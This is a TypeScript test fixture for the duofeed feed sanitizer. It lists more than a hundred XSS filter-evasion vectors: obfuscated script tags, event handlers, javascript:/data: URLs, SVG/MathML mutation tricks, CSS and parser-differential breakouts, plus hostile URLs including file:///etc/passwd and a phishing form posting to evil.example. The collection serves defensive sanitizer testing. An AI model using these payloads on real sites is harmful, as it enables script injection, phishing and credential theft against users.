/**
 * Filter-evasion vectors used by the hostile-input tests, written for duofeed (not copied from a
 * public list). Each one tries to get something executable, navigating or page-altering into the
 * republished HTML: scripts, event handlers, dangerous URL schemes, page-level elements, embedded
 * documents, SVG/MathML namespace tricks and parser differentials, CSS, comment/CDATA breakouts and
 * attribute-quote breakouts. A vector "survives" when, after the pipeline, any output format still
 * holds a banned element, an `on*`/`style` attribute, or a URL attribute whose scheme (as the
 * WHATWG URL parser reads it) is not http/https/mailto.
 *
 * Payloads call `alert(1)` or point at `evil.example`; `x.example` stands for a harmless host.
 */

/** One HTML vector: a stable id, the class it belongs to, and the HTML fragment. */
export interface HtmlVector {
  id: string;
  cls:
    | 'script'
    | 'event-handler'
    | 'url-scheme'
    | 'page-level'
    | 'form'
    | 'embedded'
    | 'svg-math'
    | 'css'
    | 'comment-cdata'
    | 'attribute-breakout'
    | 'parser-differential';
  html: string;
}

const B64_SCRIPT = Buffer.from('<script>alert(1)</script>').toString('base64');
const B64_SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');

/** Fragments for feed content, article pages and titles. */
export const HTML_VECTORS: readonly HtmlVector[] = [
  // Script elements in many spellings.
  { id: 's-plain', cls: 'script', html: '<script>alert(1)</script>' },
  { id: 's-upper-src', cls: 'script', html: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { id: 's-mixed-case-space', cls: 'script', html: '<ScRiPt >alert(1)</sCrIpT >' },
  { id: 's-split-nested', cls: 'script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { id: 's-slash-attr', cls: 'script', html: '<script/random src="https://evil.example/x.js"></script>' },
  { id: 's-double-open', cls: 'script', html: '<<script>alert(1);//<</script>' },
  { id: 's-formfeed', cls: 'script', html: '<script\ftype="text/javascript">alert(1)</script>' },
  { id: 's-unclosed', cls: 'script', html: '<script src=//evil.example/x.js?<b>' },
  { id: 's-after-title-close', cls: 'script', html: '</title></textarea></style><script>alert(1)</script>' },
  { id: 's-namespaced', cls: 'script', html: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>' },
  { id: 's-double-escaped-text', cls: 'script', html: '&lt;script&gt;alert(1)&lt;/script&gt;' },

  // Event handlers.
  { id: 'e-img-onerror', cls: 'event-handler', html: '<img src=x onerror=alert(1)>' },
  { id: 'e-upper-onerror', cls: 'event-handler', html: '<IMG SRC="https://x.example/a.png" ONERROR="alert(1)">' },
  { id: 'e-slashes', cls: 'event-handler', html: '<img/src="x"/onerror=alert(1)>' },
  { id: 'e-body-onload', cls: 'event-handler', html: '<body onload=alert(1)><p>b</p>' },
  { id: 'e-div-mouseover', cls: 'event-handler', html: '<div onmouseover="alert(1)">hover me</div>' },
  { id: 'e-autofocus', cls: 'event-handler', html: '<a href="https://x.example/" onfocus=alert(1) autofocus tabindex=1>x</a>' },
  { id: 'e-details-toggle', cls: 'event-handler', html: '<details open ontoggle=alert(1)><summary>s</summary>d</details>' },
  { id: 'e-source-onerror', cls: 'event-handler', html: '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>' },
  { id: 'e-vt-before-equals', cls: 'event-handler', html: '<p onclick\v=alert(1)>vt</p>' },
  { id: 'e-no-space-between', cls: 'event-handler', html: '<a href="https://x.example/"title="t"onclick="alert(1)">n</a>' },
  { id: 'e-image-alias', cls: 'event-handler', html: '<image src=x onerror=alert(1)>' },
  { id: 'e-marquee', cls: 'event-handler', html: '<marquee onstart=alert(1) loop=1>m</marquee>' },

  // javascript: / vbscript: / data: URLs with entity, whitespace and case obfuscation.
  { id: 'u-js', cls: 'url-scheme', html: '<a href="javascript:alert(1)">j</a>' },
  { id: 'u-js-case', cls: 'url-scheme', html: '<a href="JaVaScRiPt:alert(1)">j</a>' },
  { id: 'u-js-decimal', cls: 'url-scheme', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j</a>' },
  { id: 'u-js-padded', cls: 'url-scheme', html: '<a href="&#0000106avascript&#0000058alert(1)">j</a>' },
  { id: 'u-js-hex-colon', cls: 'url-scheme', html: '<a href="&#x6A;avascript&colon;alert(1)">j</a>' },
  { id: 'u-js-tab', cls: 'url-scheme', html: '<a href="java&#x09;script:alert(1)">j</a>' },
  { id: 'u-js-newline', cls: 'url-scheme', html: '<a href="java\nscript:alert(1)">j</a>' },
  { id: 'u-js-cr-entity', cls: 'url-scheme', html: '<a href="ja&#x0D;vascript:alert(1)">j</a>' },
  { id: 'u-js-leading-ctrl', cls: 'url-scheme', html: '<a href=" &#14;  javascript:alert(1)">j</a>' },
  { id: 'u-js-newline-entity', cls: 'url-scheme', html: '<a href="javascript&NewLine;:alert(1)">j</a>' },
  { id: 'u-js-nul', cls: 'url-scheme', html: '<a href="java\u0000script:alert(1)">j</a>' },
  { id: 'u-vbscript', cls: 'url-scheme', html: '<a href="vbscript:msgbox(1)">v</a>' },
  { id: 'u-vbscript-entity', cls: 'url-scheme', html: '<a href="VBScript&#58;msgbox(1)">v</a>' },
  { id: 'u-data-html', cls: 'url-scheme', html: `<a href="data:text/html;base64,${B64_SCRIPT}">d</a>` },
  { id: 'u-data-img-svg', cls: 'url-scheme', html: `<img src="data:image/svg+xml;base64,${B64_SVG}" alt="d">` },
  { id: 'u-img-js', cls: 'url-scheme', html: '<img src="javascript:alert(1)" alt="j">' },
  { id: 'u-srcset-js', cls: 'url-scheme', html: '<img src="https://x.example/a.png" srcset="javascript:alert(1) 1x, https://x.example/b.png 2x" alt="s">' },
  { id: 'u-picture-source', cls: 'url-scheme', html: '<picture><source srcset="javascript:alert(1)"><source srcset="data:image/png;base64,AAAA 2x"><img src="https://x.example/a.png" alt="p"></picture>' },
  { id: 'u-cite-js', cls: 'url-scheme', html: '<blockquote cite="javascript:alert(1)">q</blockquote><q cite="vbscript:x">q</q>' },
  { id: 'u-lowsrc-poster', cls: 'url-scheme', html: '<img src="https://x.example/a.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)"><video poster="javascript:alert(1)"></video>' },
  { id: 'u-table-background', cls: 'url-scheme', html: '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">t</td></tr></table>' },
  { id: 'u-area-map', cls: 'url-scheme', html: '<img src="https://x.example/a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:alert(1)"></map>' },

  // Page-level elements.
  { id: 'p-base-js', cls: 'page-level', html: '<base href="javascript:alert(1)//"><a href="x">rel</a>' },
  { id: 'p-base-evil', cls: 'page-level', html: '<base href="https://evil.example/"><img src="a.png">' },
  { id: 'p-meta-refresh', cls: 'page-level', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { id: 'p-meta-refresh-data', cls: 'page-level', html: `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=data:text/html;base64,${B64_SCRIPT}">` },
  { id: 'p-meta-utf7', cls: 'page-level', html: '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { id: 'p-link-import', cls: 'page-level', html: '<link rel="import" href="https://evil.example/x.html"><link rel=stylesheet href="javascript:alert(1)">' },

  // Forms, inputs, buttons with formaction.
  { id: 'f-form-js-action', cls: 'form', html: '<form action="javascript:alert(1)"><input type="submit" value="go"></form>' },
  { id: 'f-button-formaction', cls: 'form', html: '<button formaction="javascript:alert(1)">b</button>' },
  { id: 'f-input-formaction', cls: 'form', html: '<form id="f"></form><input form="f" type="submit" formaction="https://evil.example/" value="steal">' },
  { id: 'f-input-image-onerror', cls: 'form', html: '<input type="image" src="x" onerror="alert(1)">' },
  { id: 'f-isindex', cls: 'form', html: '<isindex action="javascript:alert(1)" type="image">' },
  { id: 'f-keygen-select', cls: 'form', html: '<select autofocus onfocus=alert(1)><option>o</option></select><keygen autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>' },
  { id: 'f-password-phish', cls: 'form', html: '<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="pw"></label></form>' },

  // iframes, frames, object, embed.
  { id: 'i-iframe-js', cls: 'embedded', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { id: 'i-iframe-srcdoc', cls: 'embedded', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { id: 'i-iframe-sandbox', cls: 'embedded', html: '<IFRAME SRC="https://evil.example/" sandbox="allow-scripts allow-same-origin allow-top-navigation"></IFRAME>' },
  { id: 'i-frameset', cls: 'embedded', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { id: 'i-object-data', cls: 'embedded', html: `<object data="data:text/html;base64,${B64_SCRIPT}"></object>` },
  { id: 'i-object-param', cls: 'embedded', html: '<object><param name="src" value="javascript:alert(1)"></object>' },
  { id: 'i-embed', cls: 'embedded', html: '<embed src="javascript:alert(1)"><embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">' },
  { id: 'i-applet-portal', cls: 'embedded', html: '<applet code="X.class" codebase="https://evil.example/"></applet><portal src="https://evil.example/"></portal>' },

  // SVG and MathML.
  { id: 'm-svg-script', cls: 'svg-math', html: '<svg><script>alert(1)</script></svg>' },
  { id: 'm-svg-onload', cls: 'svg-math', html: '<svg onload=alert(1)>' },
  { id: 'm-svg-xlink', cls: 'svg-math', html: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>' },
  { id: 'm-svg-animate', cls: 'svg-math', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">a</text></a></svg>' },
  { id: 'm-svg-foreignobject', cls: 'svg-math', html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><img src=x onerror=alert(1)></foreignObject></svg>' },
  { id: 'm-svg-style-differential', cls: 'svg-math', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { id: 'm-svg-use-data', cls: 'svg-math', html: `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"/></svg>` },
  { id: 'm-math-mglyph-style', cls: 'svg-math', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
  { id: 'm-math-form-nesting', cls: 'svg-math', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { id: 'm-math-xlink', cls: 'svg-math', html: '<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline#" xlink:href="javascript:alert(1)">y</maction></math>' },
  { id: 'm-math-href', cls: 'svg-math', html: '<math href="javascript:alert(1)">click</math>' },
  { id: 'm-svg-p-style-breakout', cls: 'svg-math', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { id: 'm-math-h1-svg-mtext', cls: 'svg-math', html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>' },

  // CSS.
  { id: 'c-expression', cls: 'css', html: '<p style="width: expression(alert(1))">e</p>' },
  { id: 'c-url-js', cls: 'css', html: '<div style="background:url(javascript:alert(1))">u</div>' },
  { id: 'c-import', cls: 'css', html: "<style>@import 'https://evil.example/x.css';</style><p>i</p>" },
  { id: 'c-behavior-binding', cls: 'css', html: '<p style="behavior: url(https://evil.example/x.htc); -moz-binding:url(https://evil.example/x.xml#a)">b</p>' },
  { id: 'c-escaped-expression', cls: 'css', html: '<p style="x:\\65xpression(alert(1))">x</p>' },
  { id: 'c-entity-in-url', cls: 'css', html: '<div style="background-image: url(&#1;javascript:alert(1))">c</div>' },
  { id: 'c-style-element-url', cls: 'css', html: '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>l</li></ul>' },
  { id: 'c-overlay', cls: 'css', html: '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">full-page link</a>' },

  // Comment / CDATA / processing-instruction breakouts.
  { id: 'k-comment-attr', cls: 'comment-cdata', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { id: 'k-cdata', cls: 'comment-cdata', html: '<![CDATA[<]]><script>alert(1)</script>' },
  { id: 'k-bang-close', cls: 'comment-cdata', html: '<!-- --!><script>alert(1)</script> -->' },
  { id: 'k-pi', cls: 'comment-cdata', html: '<? x="><script>alert(1)</script>">' },
  { id: 'k-conditional', cls: 'comment-cdata', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { id: 'k-cdata-end', cls: 'comment-cdata', html: ']]><script>alert(1)</script><![CDATA[' },

  // Attribute-quote breakouts.
  { id: 'a-title-quote', cls: 'attribute-breakout', html: '<a href="https://x.example/" title="x&quot; onmouseover=&quot;alert(1)">t</a>' },
  { id: 'a-alt-close-tag', cls: 'attribute-breakout', html: '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://x.example/a.png">' },
  { id: 'a-backtick', cls: 'attribute-breakout', html: '<img src="https://x.example/a.png" alt="`onerror=alert(1)">' },
  { id: 'a-unquoted-href', cls: 'attribute-breakout', html: '<a href=https://x.example/?a=1 onclick=alert(1)>u</a>' },
  { id: 'a-href-quote-in-url', cls: 'attribute-breakout', html: '<a href=\'https://x.example/"onclick="alert(1)\'>q</a>' },

  // Parsing differentials between containers whose content is raw text in one parser and markup
  // in another (template, noscript, noembed, noframes, xmp, textarea, title, select).
  { id: 'd-template', cls: 'parser-differential', html: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>' },
  { id: 'd-noscript-title', cls: 'parser-differential', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { id: 'd-noembed', cls: 'parser-differential', html: '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>' },
  { id: 'd-noframes', cls: 'parser-differential', html: '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>' },
  { id: 'd-xmp', cls: 'parser-differential', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { id: 'd-textarea', cls: 'parser-differential', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { id: 'd-title', cls: 'parser-differential', html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { id: 'd-select-template-style', cls: 'parser-differential', html: '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">' },
  { id: 'd-iframe-textarea', cls: 'parser-differential', html: '<iframe><textarea></iframe><img src=x onerror=alert(1)></textarea>' },
  { id: 'd-plaintext', cls: 'parser-differential', html: '<p>before</p><plaintext><img src=x onerror=alert(1)>' },
];

/** One hostile URL for item links, enclosures, images and feed-level links. */
export interface UrlVector {
  id: string;
  url: string;
}

/** URL strings as a feed might write them in `<link>`, `<enclosure url>`, `media:thumbnail`, JSON `image`. */
export const URL_VECTORS: readonly UrlVector[] = [
  { id: 'url-js', url: 'javascript:alert(1)' },
  { id: 'url-js-case-space', url: '  JaVaScRiPt:alert(1)' },
  { id: 'url-js-tab', url: 'java\tscript:alert(1)' },
  { id: 'url-js-newline', url: 'java\nscript:alert(1)' },
  { id: 'url-vbscript', url: 'vbscript:msgbox(1)' },
  { id: 'url-data-html', url: `data:text/html;base64,${B64_SCRIPT}` },
  { id: 'url-data-svg', url: `data:image/svg+xml;base64,${B64_SVG}` },
  { id: 'url-file', url: 'file:///etc/passwd' },
  { id: 'url-quote-breakout', url: 'https://x.example/a.png" onerror="alert(1)' },
  { id: 'url-angle-breakout', url: 'https://x.example/"><script>alert(1)</script>' },
  { id: 'url-single-quote', url: "https://x.example/a'onmouseover='alert(1)" },
  { id: 'url-cdata-end', url: 'https://x.example/]]><script>alert(1)</script>' },
];
